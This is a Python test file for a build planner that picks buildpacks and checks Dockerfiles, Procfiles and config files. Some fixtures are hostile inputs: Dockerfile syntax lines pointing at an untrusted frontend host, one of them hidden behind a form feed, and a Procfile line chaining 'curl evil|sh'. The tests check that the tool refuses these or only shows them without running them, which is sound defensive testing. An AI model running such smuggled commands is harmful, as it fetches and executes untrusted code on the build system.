"""Which buildpack is taken, what is set by hand, and what a Dockerfile and a Procfile may hold."""

from __future__ import annotations

import pytest
from msgspec import ValidationError

from s2i import assets
from s2i.errors import S2IError
from s2i.planning import buildpack, toml
from s2i.planning.compile import compile as compile_plan
from s2i.planning.plan import Base

DOCKERFILE = "FROM scratch\nCOPY . /\n"
OFFERED = (Base("3.13", "build", "run", uv=True),)


def test_a_dockerfile_is_used_when_nothing_else_fits_and_that_is_said(plan_of):
    plan = plan_of({"Dockerfile": DOCKERFILE, "main.go": ""})
    chosen = plan.decisions[0]
    assert (plan.buildpack, plan.dockerfile, plan.kind, plan.port) == ("dockerfile", "Dockerfile", "http", 8080)
    assert (chosen.origin, [lost.value for lost in chosen.rejected]) == ("nothing else fits", ["python"])


def test_a_dockerfile_beside_an_application_is_not_used_and_that_is_said(plan_of, flask):
    plan = plan_of({"Dockerfile": DOCKERFILE, "app.py": flask, "requirements.txt": "flask\n"})
    assert (plan.buildpack, [w.code for w in plan.warnings]) == ("python", ["W_DOCKERFILE"])


def test_the_strategy_asks_for_it(tree_of, flask):
    tree = tree_of({"Dockerfile": DOCKERFILE, "app.py": flask})
    assert compile_plan(tree, OFFERED, "dockerfile").dockerfile == "Dockerfile"


def test_an_unknown_strategy_is_refused(tree_of, flask):
    with pytest.raises(S2IError) as refused:
        compile_plan(tree_of({"app.py": flask}), OFFERED, "magic")
    assert refused.value.message == 'strategy cannot be "magic": there are auto, python, dockerfile'


@pytest.mark.parametrize("line", ["# syntax=evil.example/frontend:1", "#  Syntax = docker/dockerfile:1", "#syntax=x"])
def test_a_frontend_is_refused_in_a_dockerfile_that_is_used(tree_of, line):
    with pytest.raises(S2IError) as refused:
        compile_plan(tree_of({"Dockerfile": f"{line}\n{DOCKERFILE}"}), OFFERED)
    assert refused.value.code == "E_DOCKERFILE_SYNTAX"


def test_a_stranger_s_frontend_is_refused_even_in_one_that_is_not_used(plan_of, flask):
    files = {"app.py": flask, "requirements.txt": "flask\n"}
    with pytest.raises(S2IError) as refused:
        plan_of({**files, "Dockerfile": f"# syntax=evil.example/x\n{DOCKERFILE}"})
    assert refused.value.code == "E_DOCKERFILE_SYNTAX"
    official = plan_of({**files, "Dockerfile": f"# syntax=docker/dockerfile:1.7\n{DOCKERFILE}"})
    assert official.buildpack == "python"


def test_what_a_dockerfile_asks_for_in_vain_is_listed(plan_of):
    text = "FROM x\nONBUILD RUN id\nVOLUME /\nUSER root\nHEALTHCHECK NONE\nSTOPSIGNAL SIGKILL\n"
    plan = plan_of({"Dockerfile": text})
    found = [(w.where, w.message.split(" ")[0]) for w in plan.warnings if w.code == "W_DOCKERFILE_POLICY"]
    names = ["ONBUILD", "VOLUME", "USER", "HEALTHCHECK", "STOPSIGNAL"]
    assert [(f"Dockerfile:{line}", name) for line, name in enumerate(names, 2)] == found


def test_a_literal_secret_of_a_dockerfile_is_named_with_its_line_and_not_shown(plan_of):
    lines = (
        "FROM x", "ENV API_TOKEN=s3cretcanary MODE=fast", "ARG DB_PASSWORD", "ARG VERSION=1", "ENV GPG_KEY 0123",
        "ENV SECRET_KEY=$OTHER", 'ENV TOKEN=""', "ARG PIP_TOKEN=s3cretcanary", "ENV NPM_TOKEN s3cretcanary",
    )  # fmt: skip
    plan = plan_of({"Dockerfile": "\n".join(lines) + "\n"})
    found = [(w.where, w.message.partition(":")[0]) for w in plan.warnings if w.code == "W_DOCKERFILE_SECRET"]
    assert found == [
        ("Dockerfile:2", "ENV API_TOKEN writes its value into the image, for everybody who has it"),
        ("Dockerfile:3", "ARG DB_PASSWORD leaves what it is given in the image's history"),
        ("Dockerfile:8", "ARG PIP_TOKEN writes its value into the image, for everybody who has it"),
        ("Dockerfile:9", "ENV NPM_TOKEN writes its value into the image, for everybody who has it"),
    ]
    assert "s3cretcanary" not in str(plan.warnings)


def test_a_working_directory_in_proc_is_refused(plan_of):
    with pytest.raises(S2IError) as refused:
        plan_of({"Dockerfile": "FROM x\nWORKDIR /proc/self/fd/8\n"})
    assert (refused.value.code, refused.value.where) == ("E_DOCKERFILE", "Dockerfile:2")


@pytest.mark.parametrize(
    ("text", "where"),
    [
        ("web:\tgunicorn app:app\r\nnot a line\r\n", "Procfile:2"),
        ("we b: x\n", "Procfile:1"),
        ("../x: y\n", "Procfile:1"),
        ("web: a\nweb: b\n", "Procfile:2"),
        ("web:\n", "Procfile:1"),
    ],
)
def test_a_bad_procfile_is_refused(plan_of, flask, text, where):
    with pytest.raises(S2IError) as refused:
        plan_of({"app.py": flask, "requirements.txt": "flask\n", "Procfile": text})
    assert ("E_PROCFILE", where) == (refused.value.code, refused.value.where)


def test_a_procfile_with_shell_operators_is_shown_and_not_run(plan_of, flask):
    line = "web: gunicorn app:app; touch /tmp/x && curl evil|sh"
    plan = plan_of({"app.py": flask, "requirements.txt": "flask\n", "Procfile": f"{line}\n"})
    assert (plan.start[0], next(d for d in plan.decisions if d.what == "entry").origin) == ("gunicorn", "app.py:2")
    assert [f"`{line}` is not run: only a shell could tell what it starts"] == [w.message for w in plan.warnings]


@pytest.mark.parametrize(
    ("file", "text"),
    [
        ("s2i.toml", "colour = 1\n"),
        ("s2i.toml", 'kind = "magic"\n'),
        ("s2i.toml", 'entry = "a b"\n'),
        ("s2i.toml", 'entry = "../x.py"\n'),
        ("s2i.yaml", "entry: a\n"),
        ("pyproject.toml", "[tool.s2i]\nentrypoint = 'a:b'\n"),
    ],
)
def test_a_setting_that_nobody_knows_is_refused(plan_of, flask, file, text):
    with pytest.raises(S2IError) as refused:
        plan_of({"app.py": flask, file: text})
    assert (refused.value.code, refused.value.exit) == ("E_CONFIG", 3)


def test_every_buildpack_has_both_functions():
    for name in buildpack.names():
        pack = buildpack.load(name)
        assert all(callable(getattr(pack, verb)) for verb in ("detect", "plan", "passed_over"))


def test_knowledge_with_an_unknown_key_is_refused(tmp_path):
    path = tmp_path / "buildpack.toml"
    path.write_text((assets.folder("buildpacks") / "python" / "buildpack.toml").read_text() + "colour = 1\n")
    with pytest.raises(ValidationError):
        toml.load(path, buildpack.About)


def test_no_module_of_the_source_is_imported(plan_of, tmp_path):
    canary = tmp_path / "canary"
    source = f"open({str(canary)!r}, 'w')\nfrom flask import Flask\napp = Flask('a')\n"
    plan_of({"app.py": source, "setup.py": source, "requirements.txt": "flask\n"})
    assert not canary.exists()


def test_a_frontend_behind_a_form_feed_does_not_get_by(tree_of):
    text = "# x=y\x0cFROM a\n# syntax=evil.invalid/frontend:1\nFROM a\n"
    with pytest.raises(S2IError) as refused:
        compile_plan(tree_of({"Dockerfile": text}), OFFERED)
    assert (refused.value.code, refused.value.where) == ("E_DOCKERFILE", "Dockerfile:1")


def test_a_python_whose_base_need_not_be_made_first_is_preferred(tree_of, flask):
    made = Base("3.14", "b", "r", obtain="make")
    plan = compile_plan(tree_of({"app.py": flask}), (*OFFERED, made))
    decision = next(d for d in plan.decisions if d.what == "python")
    assert (plan.python, [(lost.value, lost.why) for lost in decision.rejected], codes(plan)) == (
        "3.13",
        [("3.14", "its base image would have to be made first")],
        [],
    )


def test_a_base_that_the_build_makes_first_is_told(tree_of, flask):
    made = Base("3.14", "b", "r", obtain="make")
    plan = compile_plan(tree_of({"app.py": flask, ".python-version": "3.14\n"}), (*OFFERED, made))
    assert (plan.python, codes(plan)) == ("3.14", ["W_BASE"])
    assert next(w.message for w in plan.warnings if w.code == "W_BASE") == (
        "the base image of Python 3.14 is not here yet: the build makes it first, in about a minute"
    )


@pytest.mark.parametrize("obtain", ["here", "pull"])
def test_a_base_that_is_here_or_is_pulled_is_nothing_to_tell_of(tree_of, flask, obtain):
    base = Base("3.14", "b", "r", obtain=obtain)
    plan = compile_plan(tree_of({"app.py": flask}), (*OFFERED, base))
    assert (plan.python, codes(plan)) == ("3.14", [])


def codes(plan):
    return [w.code for w in plan.warnings if w.code == "W_BASE"]
